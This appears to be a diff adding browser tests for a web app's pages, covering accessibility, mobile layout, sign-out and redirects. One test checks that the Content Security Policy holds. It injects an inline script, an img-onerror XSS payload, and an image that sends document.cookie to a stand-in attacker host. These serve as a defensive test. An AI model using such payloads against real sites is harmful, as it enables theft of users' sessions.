@@ -1,0 +1,128 @@
+"""What holds for every page, in every state, in light and in dark."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.browser.conftest import PHONE, Visit, Visits
+from tests.browser.preview import Running
+
+MISSING = "Failed to load resource: the server responded with a status of"
+
+PAGES = {
+    "welcome": (None, "/welcome"),
+    "signed-out": (None, "/signed-out"),
+    "no-role": ("dave", "/"),
+    "studio": ("alice", "/studio"),
+    "keys": ("alice", "/keys"),
+    "records": ("bob", "/audit"),
+    "records-none": ("bob", "/audit?who=nobody&action="),
+    "records-unreadable": ("bob", "/audit?effect=perhaps"),
+    "record": ("bob", "/audit/records/{0}"),
+    "record-open": ("bob", "/audit/records/{7}"),
+    "not-found": ("alice", "/nowhere"),
+    "not-allowed": ("alice", "/audit"),
+    "hostile-names": ("hostile", "/audit"),
+}
+
+
+async def opened(visit: Visits, preview: Running, name: str, **options: object) -> Visit:
+    person, path = PAGES[name]
+    one = await visit(person, allowed=(MISSING,), **options)  # type: ignore[arg-type]
+    page = await one.go(path.format(*preview.requests))
+    if name == "studio":
+        await page.locator("#models .chip").first.wait_for()
+    return one
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("name", PAGES)
+async def test_a_page_is_accessible_and_says_what_it_is(visit, preview, screenshot_dir: Path, name, scheme):
+    one = await opened(visit, preview, name, scheme=scheme)
+    await one.page.screenshot(path=screenshot_dir / f"{name}-{scheme}.png", full_page=True)
+    assert await one.axe() == []
+    assert await one.page.locator("h1").count() == 1
+    assert await one.page.locator("html").get_attribute("lang") == "en"
+    assert await one.page.title() not in ("", "Imprimatur", " · Imprimatur")
+
+
+@pytest.mark.parametrize("name", ["welcome", "no-role", "studio", "keys", "records", "record", "not-found"])
+async def test_nothing_hangs_over_the_edge_of_a_phone(visit, preview, screenshot_dir: Path, name):
+    """Also at 320 pixels, which is 1280 at 400 % (WCAG 1.4.10)."""
+    one = await opened(visit, preview, name, size=PHONE)
+    await one.page.screenshot(path=screenshot_dir / f"{name}-phone.png", full_page=True)
+    assert await one.page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
+    await one.page.set_viewport_size({"width": 320, "height": 640})
+    assert await one.page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
+
+
+async def test_everything_comes_from_our_own_server(visit, preview):
+    one = await visit("alice")
+    asked: list[str] = []
+    one.page.on("request", lambda request: asked.append(request.url))
+    await one.go("/studio")
+    await one.page.wait_for_load_state("networkidle")
+    assert asked
+    assert [url for url in asked if not url.startswith((preview.url, "blob:", "data:"))] == []
+
+
+async def test_the_policy_that_every_page_travels_with_forbids_inline_script(visit, preview):
+    """Not the header's text but its effect: what an injected element could do, it can't."""
+    one = await visit("alice", allowed=("policy:", "Content Security Policy", "Trusted"))
+    page = await one.go("/studio")
+    await page.evaluate(
+        """() => {
+          const script = document.createElement('script');
+          try { script.text = "document.title = 'pwned'"; } catch { /* Trusted Types */ }
+          document.body.append(script);
+          const markup = '<img src=x onerror="document.title=`pwned`">';
+          try { document.body.insertAdjacentHTML('beforeend', markup); } catch { /* Trusted Types */ }
+          const image = document.createElement('img');
+          image.src = 'https://attacker.example/?' + document.cookie;
+          document.body.append(image);
+        }"""
+    )
+    await page.wait_for_timeout(200)
+    assert await page.title() != "pwned"
+    assert any(v.startswith("policy: img-src") for v in await page.evaluate("window.cspViolations"))
+
+
+async def test_a_person_can_sign_out_from_every_page(visit, preview):
+    one = await visit("alice")
+    page = await one.go("/keys")
+    await page.get_by_role("button", name="Alice Meyer").click()
+    await page.get_by_role("button", name="Sign out").click()
+    await page.wait_for_url("**/signed-out")
+    assert await page.get_by_text("You are signed out").is_visible()
+    await page.goto(preview.url + "/studio")
+    assert page.url == f"{preview.url}/welcome?return_to=%2Fstudio"
+
+
+async def test_the_front_door_leads_each_person_to_their_place(visit):
+    for person, place in (("alice", "/studio"), ("bob", "/audit"), ("dave", "/"), (None, "/welcome")):
+        one = await visit(person)
+        page = await one.go("/")
+        assert page.url == one.url + place
+
+
+async def test_the_way_in_remembers_where_a_person_wanted_to_go(visit):
+    one = await visit(None)
+    page = await one.go("/studio")
+    door = page.get_by_role("link", name="Sign in with Acme ID")
+    assert await door.get_attribute("href") == "/auth/sign-in?provider=preview&return_to=%2Fstudio"
+
+
+async def test_somebody_without_a_role_is_told_what_to_do(visit):
+    one = await visit("dave")
+    page = await one.go("/")
+    assert await page.get_by_text("none of your groups opens a door here yet").is_visible()
+    assert await page.get_by_text("Ask whoever looks after Imprimatur").is_visible()
+
+
+async def test_a_page_that_is_not_there_is_a_page(visit):
+    one = await visit("alice", allowed=(MISSING,))
+    page = await one.go("/nowhere")
+    assert await page.get_by_role("heading", name="Nothing here").is_visible()
+    assert await page.get_by_role("link", name="To the front door").is_visible()
